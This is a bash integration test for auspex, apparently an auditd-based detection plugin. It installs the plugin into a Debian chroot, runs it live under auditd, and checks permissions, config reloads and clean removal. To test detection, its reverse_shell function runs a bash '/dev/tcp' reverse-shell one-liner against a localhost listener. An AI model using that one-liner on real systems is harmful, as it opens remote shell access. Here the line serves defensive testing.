#!/bin/bash
# SPDX-License-Identifier: GPL-2.0-or-later
# install.sh BUILD [CACHE]: what BUILD (a configured and built folder with the usual
# prefix) installs into a fresh Debian, made by debootstrap and kept in the folder
# CACHE; switched on as the manual says, below the real auditd where the machine
# allows that; and removed again. Says why and exits with 77 where it cannot run.
set -u
# What it mounts is gone with it.
if [ "$(id -u)" = 0 ] && [ -z "${INSTALL_SPACE:-}" ]; then
	INSTALL_SPACE=own exec unshare --mount --propagation private "$0" "$@"
fi
src=$(cd "$(dirname "$0")" && pwd) || exit 1
build=$(cd "$1" && pwd) || exit 1
cache=${2:-$build}
# shellcheck source=/dev/null
. "$src/lab.sh"
work=
passed=0
failed=0

skip() {
	echo "skipped: $*"
	exit 77
}

# check WHAT COMMAND...
check() {
	local what=$1
	shift
	if "$@" >"$work/out" 2>&1; then
		passed=$((passed + 1))
		echo "ok $what"
	else
		failed=$((failed + 1))
		echo "not ok $what"
		sed 's/^/  /' "$work/out"
	fi
}

inside() { chroot "$root" /usr/bin/env PATH=/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin HOME=/root "$@"; }
# inside_sh: commands from standard input, as the manual has them.
inside_sh() { inside sh -eu; }

# ---- the machine ----

# The libraries that the program was linked with, by what they are called here.
packages() {
	printf '%s\n' auditd procps systemd-standalone-sysusers systemd-standalone-tmpfiles
	ldd "$build/src/auspex" | sed -n 's/.*=> \(\/[^ ]*\) .*/\1/p' |
		xargs -n1 readlink -f | sed 's,^/usr,*,' | xargs dpkg -S 2>/dev/null |
		sed 's/:.*//' | sort -u
}

make_base() {
	local list=$1 code
	code=$(sed -n 's/^VERSION_CODENAME=//p' /etc/os-release)
	mkdir -p "$work/base" || return 1
	debootstrap --variant=minbase --include="$list" "$code" "$work/base" \
		>"$work/debootstrap.log" 2>&1 || return 1
	rm -rf "$work/base/var/cache/apt" "$work/base/var/lib/apt/lists"
	tar -C "$work/base" -cf "$base.tmp" . && mv "$base.tmp" "$base"
}

make_root() {
	local list
	[ "$(id -u)" = 0 ] || skip "root is needed for another root"
	for tool in debootstrap dpkg python3; do
		[ -n "$(command -v $tool)" ] || skip "$tool is not installed"
	done
	list=$(packages | paste -sd,)
	base=$cache/root-$(echo "$list" | sha256sum | cut -c1-12).tar
	if [ ! -f "$base" ]; then
		make_base "$list" || skip "no Debian to be had: $(tail -n 1 "$work/debootstrap.log")"
	fi
	root=$work/root
	mkdir "$root" && tar -C "$root" -xf "$base" &&
		mount --bind /proc "$root/proc" && mount -t tmpfs tmpfs "$root/run" &&
		mount --bind /dev "$root/dev"
}

# A file that is mounted over must not be deleted with what is below.
leave() {
	lab_down_inside
	for dir in proc run dev; do
		umount "$root/$dir"
	done 2>/dev/null
	case $work in
	*/auspex-install.*) rm -rf --one-file-system "$work" ;;
	esac
}

# ---- what is installed ----

files() { (cd "$root" && find . -xdev ! -type d | LC_ALL=C sort); }

is_installed() {
	while read -r want path; do
		got=$(stat -c %a:%u:%g "$root$path") || return 1
		[ "$got" = "$want" ] || { echo "$path: $got, not $want"; return 1; }
	done <<-END
		750:0:0 $bindir/auspex
		750:0:0 $prefix/libexec/auspex/auspex-keeper
		640:0:0 /etc/audit/plugins.d/auspex.conf
		640:0:0 $sysconfdir/auspex/auspex.yaml
		644:0:0 $prefix/lib/sysusers.d/auspex.conf
		644:0:0 $prefix/lib/tmpfiles.d/auspex.conf
		644:0:0 $prefix/share/auspex/auspex.rules
		644:0:0 $prefix/share/man/man8/auspex-plugin.8
	END
	[ ! -e "$root/etc/audit/rules.d/auspex.rules" ] || { echo "rules, unasked"; return 1; }
	grep -qx 'active = no' "$root/etc/audit/plugins.d/auspex.conf" &&
		grep -qx "path = $bindir/auspex" "$root/etc/audit/plugins.d/auspex.conf"
}

# The user auspex owns the folder of the database, and may read the settings.
owns() {
	local uid gid
	uid=$(inside id -u auspex) && gid=$(inside id -g auspex) || return 1
	[ "$(stat -c %a:%u:%g "$root/var/lib/auspex")" = "750:$uid:$gid" ] &&
		[ "$(stat -c %a:%u:%g "$root$sysconfdir/auspex/auspex.yaml")" = "640:0:$gid" ]
}

install_it() { make -s -C "$build" "$@" DESTDIR="$root"; }

again_keeps_changes() {
	local yaml=$root$sysconfdir/auspex/auspex.yaml
	echo '# mine' >>"$yaml"
	install_it install && tail -n 1 "$yaml" | grep -qx '# mine' && [ -f "$yaml.new" ] &&
		grep -qx 'active = yes' "$root/etc/audit/plugins.d/auspex.conf" &&
		[ ! -f "$root/etc/audit/plugins.d/auspex.conf.new" ] &&
		sed -i '$d' "$yaml" && rm "$yaml.new"
}

# ---- live ----

auditd=
lab_down_inside() {
	[ -n "$auditd" ] || return 0
	auditctl -D >/dev/null 2>&1
	kill "$auditd" && wait "$auditd"
	auditctl -e "$lab_enabled" >/dev/null 2>&1
	auditd=
	exec 9>&-
}

# until_true SECONDS COMMAND...
until_true() {
	local end=$((SECONDS + $1))
	shift
	until "$@" >/dev/null 2>&1; do
		[ $SECONDS -lt $end ] || { echo "waited in vain: $*"; return 1; }
		sleep 0.05
	done
}

start_auditd() {
	lab_enabled=$(auditctl -s | sed -n 's/^enabled //p')
	(exec chroot "$root" /usr/sbin/auditd -n >"$work/auditd.out" 2>&1 9>&-) &
	auditd=$!
	until_true 10 sh -c "auditctl -s | grep -qx 'pid $auditd'" ||
		{ cat "$work/auditd.out"; kill "$auditd"; auditd=; return 1; }
}

# The process of the plugin with that name, below our auditd.
process() {
	local pid
	for pid in $(pgrep -x "$1"); do
		[ "$(readlink "/proc/$pid/root")" = "$root" ] && echo "$pid" && return
	done
	return 1
}

user_is() {
	local pid
	pid=$(process "$1") || return 1
	[ "$(awk '/^Uid:/ { print $2 }' "/proc/$pid/status")" = "$2" ]
}

# The rules of rules.d, but for sessions of ours alone and the machine's sake.
load_rules() {
	sed -i 's/^\(-a always.*\) -k /\1 -F auid>=4200 -F auid<=4999 -k /' \
		"$root/etc/audit/rules.d/auspex.rules"
	sed -i 's/^-f 1/-f 0/; s/^--backlog_wait_time .*/--backlog_wait_time 0/' \
		"$root/etc/audit/rules.d/audit.rules"
	inside augenrules --load >/dev/null && auditctl -l | grep -q 'S execve.*auid' &&
		sed -i 's/ -F auid>=4200 -F auid<=4999//' "$root/etc/audit/rules.d/auspex.rules"
}

reverse_shell() {
	# The program's, not the shell's.
	# shellcheck disable=SC2016
	python3 -c '
import socket, subprocess, sys
server = socket.create_server(("127.0.0.1", 0))
shell = subprocess.Popen(["sh", "-c", "echo 4200 >/proc/self/loginuid && exec chroot \"$0\" \
    env HISTFILE=/dev/null bash -c \"bash -i >& /dev/tcp/127.0.0.1/$1 0>&1\"", sys.argv[1],
    str(server.getsockname()[1])], stderr=subprocess.DEVNULL)
peer, _ = server.accept()
peer.sendall(b"id; exit\n")
while peer.recv(4096):
    pass
shell.wait()' "$root"
}

found() {
	inside auspex findings --detector "$1" -f jsonl | grep -q "\"detector\":\"$1\""
}

failed_reloads() {
	sqlite3 "$root/var/lib/auspex/auspex.db" \
		"SELECT coalesce(max(count), 0) FROM health WHERE kind = 'reload_failed'"
}
reloads_failed() { [ "$(failed_reloads)" = "$1" ]; }

# Good settings are read by the user that the worker is; bad ones are told.
reload_works() {
	local yaml=$root$sysconfdir/auspex/auspex.yaml log=$root/var/log/audit/audit.log
	echo '# a change' >>"$yaml"
	kill -HUP "$auditd" && until_true 5 grep -q 'op=reconfigure' "$log" && sleep 0.5
	echo 'nonsense: [' >>"$yaml"
	kill -HUP "$auditd" && until_true 5 reloads_failed 1 || return 1
	sed -i '$d' "$yaml" && sed -i '$d' "$yaml"
}

# Rules for some processes alone are not all, and Debian's queue is short.
doctor_is_content() {
	inside auspex doctor --live >"$work/doctor"
	cat "$work/doctor"
	sed -n '/^auditd/,/^$/p' "$work/doctor" | grep -q 'as they should be' &&
		! sed -n '/^auditd/,/^$/p' "$work/doctor" | grep '^  !' &&
		grep -q '^reverse_shell  *partly' "$work/doctor"
}

live() {
	local uid keeper
	# shellcheck disable=SC2154
	lab_possible || { echo "not below auditd: $lab_why"; return; }
	exec 9>"${LAB_LOCK:-${TMPDIR:-/tmp}/auditd.lock}"
	flock 9
	if [ "$(auditctl -s | sed -n 's/^pid //p')" != 0 ] || [ "$(auditctl -l)" != "No rules" ]; then
		echo "not below auditd: another auditd runs, or there are rules"
		return
	fi
	uid=$(inside id -u auspex)
	check "auditd starts, and no plugin" start_auditd
	if [ -z "$auditd" ]; then return; fi
	check "make install-rules" install_it install-rules
	check "augenrules loads them" load_rules
	check "a manifest of what is installed" record_manifest
	check "switched on by SIGHUP" switch_on
	check "the worker is the user auspex" until_true 10 user_is auspex-worker "$uid"
	check "the helper is, too" until_true 10 user_is auspex-helper "$uid"
	check "it goes on by itself" until_true 10 process auspex-standby
	check "the doctor has nothing against auditd" doctor_is_content
	reverse_shell
	check "a reverse shell is found" until_true 10 found reverse_shell
	drop
	check "a dropped program is found" until_true 10 found added_binary_executed
	check "the database is its own" test "$(stat -c %a:%u \
		"$root/var/lib/auspex/auspex.db")" = "640:$uid"
	check "settings are read again" reload_works
	keeper=$(process auspex-keeper)
	lab_down_inside
	forget_manifest
	check "the plugin ends with auditd" until_true 10 test ! -e "/proc/$keeper"
}

# For who sees the machine from outside, the root is a folder.
record_manifest() {
	inside auspex manifest record dpkg: -o "$sysconfdir/auspex/host.mtree" &&
		sed -i "s,^  manifests: \[\],  manifests: [$root=$sysconfdir/auspex/host.mtree]," \
			"$root$sysconfdir/auspex/auspex.yaml" &&
		grep -q "manifests: .*host.mtree" "$root$sysconfdir/auspex/auspex.yaml"
}
forget_manifest() {
	sed -i "s,^  manifests: .*,  manifests: []," "$root$sysconfdir/auspex/auspex.yaml"
	rm "$root$sysconfdir/auspex/host.mtree"
}

# A program that no package brought.
drop() {
	cp "$root/bin/true" "$root/srv/dropped"
	# The inner shell's.
	# shellcheck disable=SC2016
	sh -c 'echo 4201 >/proc/self/loginuid && exec chroot "$0" /srv/dropped' "$root"
	rm "$root/srv/dropped"
}

switch_on() {
	! process auspex-keeper || return 1
	sed -i 's/^q_depth.*/q_depth = 20000/; s/^log_format.*/log_format = RAW/' \
		"$root/etc/audit/auditd.conf"
	sed -i 's/^active = no/active = yes/' "$root/etc/audit/plugins.d/auspex.conf" &&
		kill -HUP "$auditd" && until_true 10 process auspex-worker
}

# ---- and removed ----

remove_owner() {
	inside_sh <<-END
		userdel auspex
		rm -r /var/lib/auspex
	END
}

without_systemd() {
	inside_sh <<-END
		useradd --system --no-create-home --home-dir /var/lib/auspex --shell /usr/sbin/nologin auspex
		install -d -o auspex -g auspex -m 0750 /var/lib/auspex
		chgrp auspex $sysconfdir/auspex/auspex.yaml
	END
}

# But for what auditd, augenrules and userdel wrote themselves.
nothing_left() {
	files >"$work/after"
	comm -13 "$work/before" "$work/after" | grep -v -e '^./etc/[a-z]*-$' -e '^./var/log/' \
		-e '^./etc/audit/audit.rules' >"$work/left"
	(cd "$root" && find . -xdev -name '*auspex*') >>"$work/left"
	! grep . "$work/left"
}

main() {
	work=$(mktemp -d "${TMPDIR:-/tmp}/auspex-install.XXXXXX") || exit 1
	root=$work/root
	trap leave EXIT
	make_root || skip "no root could be made"
	prefix=$(sed -n 's/^prefix = //p' "$build/Makefile")
	bindir=$prefix/bin
	sysconfdir=$prefix/etc
	[ "$prefix" != /usr ] || sysconfdir=/etc
	files >"$work/before"
	check "make install" install_it install
	check "all is in its place" is_installed
	check "it runs" inside auspex --version
	check "systemd-sysusers" inside systemd-sysusers
	check "systemd-tmpfiles" inside systemd-tmpfiles --create auspex.conf
	check "sysusers.d and tmpfiles.d make the owner" owns
	live
	sed -i 's/^active = no/active = yes/' "$root/etc/audit/plugins.d/auspex.conf"
	check "make install again keeps changes" again_keeps_changes
	remove_owner
	check "without systemd" without_systemd
	check "the owner is the same" owns
	check "make uninstall" install_it uninstall
	remove_owner
	check "nothing is left" nothing_left
	echo "$passed passed, $failed failed"
	[ $failed = 0 ]
}

main
